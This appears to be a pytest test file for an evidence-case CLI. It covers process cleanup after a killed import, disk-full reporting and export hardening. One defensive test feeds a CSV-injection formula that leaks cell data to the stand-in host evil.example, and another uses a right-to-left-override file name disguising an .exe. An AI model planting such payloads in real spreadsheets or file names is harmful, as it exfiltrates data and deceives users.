"""The command killed, the disk full, the output opened elsewhere: what is left behind."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import shutil
import signal
import time
import zipfile
from pathlib import Path

import pytest
from cli_support import TIMEOUT, Cli


def _group_members(group: int) -> dict[int, tuple[int, str]]:
    """Live processes of a process group: pid -> (parent pid, command line)."""
    members = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue   # ended meanwhile
        fields = stat[stat.rindex(")") + 2:].split()
        state, parent, pgrp = fields[0], int(fields[1]), int(fields[2])
        if pgrp == group and state != "Z":
            members[int(entry.name)] = (parent, cmdline)
    return members


def _wait_until(condition, what: str, timeout: float = TIMEOUT):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = condition()
        if found:
            return found
        time.sleep(0.05)
    raise AssertionError(f"gave up waiting for {what}")


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc to list processes")
def test_a_killed_import_leaves_no_process_behind(cli: Cli, new_case, photo_factory, tmp_path):
    case = new_case()
    photo = photo_factory(size=(2400, 1800))
    folder = tmp_path / "many"
    folder.mkdir()
    for n in range(400):   # the same photo over and over: all decoded, one kept
        shutil.copyfile(photo, folder / f"copy{n:03}.jpg")
    process = cli.start("import", case, folder)
    try:
        def workers_running() -> bool:
            members = _group_members(process.pid)
            return any(parent != process.pid and parent in members
                       for parent, _ in members.values())
        _wait_until(workers_running, "the import's worker processes")
        os.kill(process.pid, signal.SIGKILL)   # the importer alone, as a crash would
        process.wait(timeout=TIMEOUT)
        assert process.returncode == -signal.SIGKILL, "the import ended before it was killed"
        try:
            _wait_until(lambda: not _group_members(process.pid), "its processes to end",
                        timeout=30)
        except AssertionError:
            left = _group_members(process.pid)
            raise AssertionError(f"{len(left)} process(es) outlived the killed import:"
                                 f" {[cmd[:80] for _, cmd in left.values()]}") from None
    finally:
        # Never leave them to the next test; survivors hold the pipes open too.
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.communicate()


def _package_csv(package: Path, name: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(package) as zf:
        text = zf.read(f"data/{name}").decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_unless_raw(
        cli: Cli, new_case, photo_factory, tmp_path):
    case = new_case()
    cli("import", case, photo_factory())
    item = cli("list", case, "--json").json()["evidence"][0]["id"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    incident = cli("incident", "add", case, "--title", formula, "--lat", "-12.5", "--lon",
                   "37.1", "--description=-2+3", "--json").json()["id"]
    notes = ["@SUM(1+1)", "+1", "\tcmd", "\rcmd", "plain - text", "a=b"]
    for note in notes:
        cli("tag", case, item, "--label", "crater", "--box", "10,10,50,40", "--incident",
            incident, f"--note={note}")

    cli("export", case, tmp_path / "safe.zip")
    [row] = _package_csv(tmp_path / "safe.zip", "incidents.csv")
    assert row["title"] == "'" + formula and row["description"] == "'-2+3"
    assert row["lat"] == "-12.5" and row["lon"] == "37.1"   # numbers stay numbers
    written = sorted(r["note"] for r in _package_csv(tmp_path / "safe.zip", "regions.csv"))
    assert written == sorted(["'@SUM(1+1)", "'+1", "'\tcmd", "'\rcmd", "plain - text", "a=b"])

    cli("export", case, tmp_path / "raw.zip", "--raw-csv")
    [raw] = _package_csv(tmp_path / "raw.zip", "incidents.csv")
    assert raw["title"] == formula and raw["description"] == "-2+3"
    assert sorted(r["note"] for r in _package_csv(tmp_path / "raw.zip", "regions.csv")) \
        == sorted(notes)


def test_bidi_and_control_characters_are_shown_escaped_in_cli_listings(
        cli: Cli, new_case, photo_factory, tmp_path):
    case = new_case()
    photo = photo_factory()
    named = photo.with_name("invoice\u202egpj.exe.jpg")
    photo.rename(named)
    cli("import", case, named)
    listing = cli("list", case).stdout
    assert "invoice\\u202egpj.exe.jpg" in listing and "\u202e" not in listing
    cli("incident", "add", case, "--title", "Strike \u2067west\u2069 \x1b[31mred")
    incidents = cli("incident", "list", case).stdout
    assert "Strike \\u2067west\\u2069 \\x1b[31mred" in incidents
    assert "\u2067" not in incidents and "\x1b" not in incidents
    # --json is for scripts: the text exactly as stored.
    assert cli("list", case, "--json").json()["evidence"][0]["original_name"] == named.name


def test_an_import_that_fills_the_disk_says_what_it_committed_and_what_not(
        cli: Cli, small_disk, tmp_path):
    import numpy as np
    from cli_support import one_error_line, query
    from PIL import Image

    noise = np.random.default_rng(7)
    folder = tmp_path / "photos"
    folder.mkdir()
    for n in range(30):   # ~180 KB each: 5 MB that do not fit on a 3 MB disk
        Image.fromarray(noise.integers(0, 255, (400, 500, 3), dtype=np.uint8)).save(
            folder / f"n{n:02}.jpg", quality=90)
    disk = small_disk(3)
    case = Path(cli("new", disk / "full", "--json").json()["path"])

    result = cli("import", case, folder, expect=2)
    one_error_line(result, str(case), "disk is full", "not imported")
    said_imported = {line.split()[1] for line in result.stdout.splitlines()
                     if line.startswith("imported: ")}
    said_not = {line.removeprefix("not imported: ") for line in result.stdout.splitlines()
                if line.startswith("not imported: ")}
    assert said_not, "the premise: the disk filled before the end"
    assert said_imported | said_not == {str(p) for p in folder.iterdir()}
    assert not said_imported & said_not
    in_case = {row[0] for row in query(case, "SELECT original_path FROM evidence")}
    assert in_case == said_imported   # exactly what it said: nothing lost, nothing extra
    assert not list((case / "media" / ".incoming").glob("*.part"))
    assert cli("verify", case).code == 0


def test_the_import_after_a_killed_one_says_it_removed_the_unfinished_copies(
        cli: Cli, new_case, photo_factory, tmp_path):
    import subprocess
    import sys
    case = new_case()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()                                   # a pid no process has any more
    incoming = case / "media" / ".incoming"
    incoming.mkdir(parents=True, exist_ok=True)
    part = incoming / f"{dead.pid}-0123456789abcdef0123456789abcdef.part"
    part.write_bytes(b"half a photo")

    result = cli("import", case, photo_factory())
    assert not part.exists()
    assert (f"note: {part}: unfinished copy left by an interrupted import (never in the"
            " case): removed") in result.stderr
    assert "Imported 1," in result.stdout


def test_the_import_summary_counts_one_warning_in_the_singular(cli: Cli, new_case, corpus):
    null_island = corpus / "photos_gps" / "EDGE_samsung_galaxy_s_gps_null_island.jpg"
    result = cli("import", new_case(), null_island, expect=1)
    assert result.stdout.strip().endswith("0 failed, 1 warning.")    # was "1 warnings"
